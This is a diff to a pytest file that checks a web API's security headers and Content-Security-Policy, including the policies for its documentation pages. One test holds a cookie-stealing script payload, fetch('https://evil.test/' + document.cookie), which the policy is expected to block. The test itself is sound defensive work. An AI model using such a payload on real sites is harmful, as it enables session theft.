@@ -25,34 +25,41 @@ class Page(HTMLParser):
 
     def __init__(self, text):
         super().__init__()
-        self.inline, self.loaded, self.sheets = [], [], []
-        self._nonce, self._reading = None, False
+        self.inline = {"script": [], "style": []}
+        """What stands in the page itself, as (nonce, text)."""
+        self.loaded = {"script": [], "style": []}
+        self._reading = ""
         self.feed(text)
 
     def handle_starttag(self, tag, attrs):
         attributes = dict(attrs)
         if tag == "script" and "src" in attributes:
-            self.loaded.append(attributes["src"])
-        elif tag == "script":
-            self._reading, self._nonce = True, attributes.get("nonce")
-            self.inline.append((self._nonce, ""))
+            self.loaded[tag].append(attributes["src"])
+        elif tag in self.inline:
+            self._reading = tag
+            self.inline[tag].append((attributes.get("nonce"), ""))
         elif tag == "link" and attributes.get("rel") == "stylesheet":
-            self.sheets.append(attributes["href"])
+            self.loaded["style"].append(attributes["href"])
 
     def handle_data(self, data):
         if self._reading:
-            nonce, text = self.inline[-1]
-            self.inline[-1] = (nonce, text + data)
+            nonce, text = self.inline[self._reading][-1]
+            self.inline[self._reading][-1] = (nonce, text + data)
 
     def handle_endtag(self, tag):
-        self._reading = self._reading and tag != "script"
+        if tag == self._reading:
+            self._reading = ""
 
 
-def runs(policy, nonce, script):
-    """Whether a browser runs an inline script under a policy."""
-    sources = policy.get("script-src", policy.get("default-src", ["*"]))
+def sources_of(policy, directive):
+    """From where a policy lets something come."""
+    return policy.get(directive, policy.get("default-src", ["*"]))
+
+
+def takes(sources, nonce, text):
+    """Whether a browser takes a script or a style that stands in the page."""
     digests = [
-        f"'{name}-{base64.b64encode(hashlib.new(name, script.encode()).digest()).decode()}'"
+        f"'{name}-{base64.b64encode(hashlib.new(name, text.encode()).digest()).decode()}'"
         for name in ("sha256", "sha384", "sha512")
     ]
     named = any(source in sources for source in digests)
@@ -60,7 +67,7 @@ def runs(policy, nonce, script):
 
 
 def is_loose(sources):
-    """Whether a list of sources lets any inline script run: hashes and nonces switch that off."""
+    """Whether a list of sources lets anything inline in: hashes and nonces switch that off."""
     exact = any(re.match(r"'(sha\d+|nonce)-", source) for source in sources)
     return "'unsafe-inline'" in sources and not exact
 
@@ -68,9 +75,11 @@ def is_loose(sources):
 def test_every_answer_has_them():
     """Every answer, also a refusal and an error 500, says `X-Content-Type-Options: nosniff`,
     `X-Frame-Options: DENY`, `Referrer-Policy: no-referrer`, and with `Content-Security-Policy` that
-    nothing in it may be loaded or run (`default-src 'none'`) and no page may frame it
-    (`frame-ancestors 'none'`)."""
-    with started(crashing_app(allowed_hosts=("testserver",)), raising=False) as client:
+    no page may frame it (`frame-ancestors 'none'`) and, but for the pages of the documentation,
+    that nothing in it may be loaded or run (`default-src 'none'`)."""
+    app = crashing_app(allowed_hosts=("testserver",), docs_password="a quiet river")  # noqa: S106
+    with started(app, raising=False) as client:
+        locked = client.get("/docs")
         answers = [
             client.get("/api/v1/products"),
             client.get("/api/v1/products/7"),
@@ -79,15 +88,18 @@ def test_every_answer_has_them():
             client.get("/nowhere"),
             client.get("/crash"),
             client.get("/health", headers={"Host": "evil.test"}),
+            client.get("/api/openapi.json", headers={"Api-Version": "2"}),
         ]
-    assert [answer.status_code for answer in answers] == [200, 404, 422, 401, 404, 500, 400]
-    for answer in answers:
+    statuses = [answer.status_code for answer in answers]
+    assert statuses == [200, 404, 422, 401, 404, 500, 400, 401]
+    assert locked.status_code == 401
+    for answer in [*answers, locked]:
         assert answer.headers.get("x-content-type-options") == "nosniff"
         assert answer.headers.get("x-frame-options") == "DENY"
         assert answer.headers.get("referrer-policy") == "no-referrer"
-        policy = policy_of(answer)
-        assert policy.get("default-src") == ["'none'"]
-        assert policy.get("frame-ancestors") == ["'none'"]
+        assert policy_of(answer).get("frame-ancestors") == ["'none'"]
+    for answer in answers:
+        assert policy_of(answer).get("default-src") == ["'none'"]
 
 
 def test_https_is_asked_for_where_there_is_https():
@@ -103,28 +115,31 @@ def test_https_is_asked_for_where_there_is_https():
     assert "strict-transport-security" not in answer.headers
 
 
-@pytest.mark.parametrize("path", ["/docs", "/redoc"])
+@pytest.mark.parametrize(
+    "path", ["/docs", "/redoc", "/reference", "/api/v2/docs", "/api/v2/redoc", "/api/v2/reference"]
+)
 def test_the_documentation_still_works(client, path):
-    """/docs and /redoc have a policy under which they work: scripts, styles and data of this host,
-    the scripts in the page itself, the images that they draw, the worker of ReDoc."""
+    """/docs, /redoc and /reference, of version 2 as well, have a policy under which they work:
+    scripts, styles and data of this host, the scripts and styles in the page itself, the images
+    that they draw, the worker of ReDoc."""
     answer = client.get(path)
     policy, page = policy_of(answer), Page(answer.text)
-    for nonce, script in page.inline:
-        assert runs(policy, nonce, script), "A script of the page would not run."
-    for kind, addresses in (("script-src", page.loaded), ("style-src", page.sheets)):
-        sources = policy.get(kind, policy.get("default-src", []))
-        for address in addresses:
+    for kind in ("script", "style"):
+        sources = sources_of(policy, f"{kind}-src")
+        for nonce, text in page.inline[kind]:
+            assert takes(sources, nonce, text), f"A {kind} in the page itself is not taken."
+        for address in page.loaded[kind]:
             assert not address.startswith(("http:", "https:", "//"))
             assert "'self'" in sources, f"{address} would not be loaded."
-    for kind, needed in (
-        ("style-src", "'unsafe-inline'"),
-        ("img-src", "data:"),
-        ("connect-src", "'self'"),
-        ("worker-src", "blob:"),
-    ):
-        sources = policy.get(kind, policy.get("default-src", []))
-        only_for_redoc = kind == "worker-src" and path == "/docs"
-        assert only_for_redoc or needed in sources
+    if not path.endswith("/reference"):
+        assert is_loose(sources_of(policy, "style-src")), (
+            "The page writes styles while it runs. That takes 'unsafe-inline', without a hash or a "
+            "nonce beside it, which switches it off."
+        )
+        assert "data:" in sources_of(policy, "img-src")
+        assert "'self'" in sources_of(policy, "connect-src")
+    if path.endswith("/redoc"):
+        assert "blob:" in sources_of(policy, "worker-src")
 
 
 @pytest.mark.parametrize("path", ["/docs", "/redoc"])
@@ -132,8 +147,8 @@ def test_a_smuggled_script_does_not_run(client, path):
     """The scripts of a page are named by a hash or a nonce: one that somebody smuggles into the
     page does not run, nor one from another host, nor may another page frame this one."""
     policy = policy_of(client.get(path))
-    sources = policy.get("script-src", policy.get("default-src", ["*"]))
-    assert not runs(policy, None, "fetch('https://evil.test/' + document.cookie)")
+    sources = sources_of(policy, "script-src")
+    assert not takes(sources, None, "fetch('https://evil.test/' + document.cookie)")
     assert not {"*", "http:", "https:", "data:", "'unsafe-eval'"} & set(sources)
     assert policy.get("frame-ancestors") == ["'none'"]
 
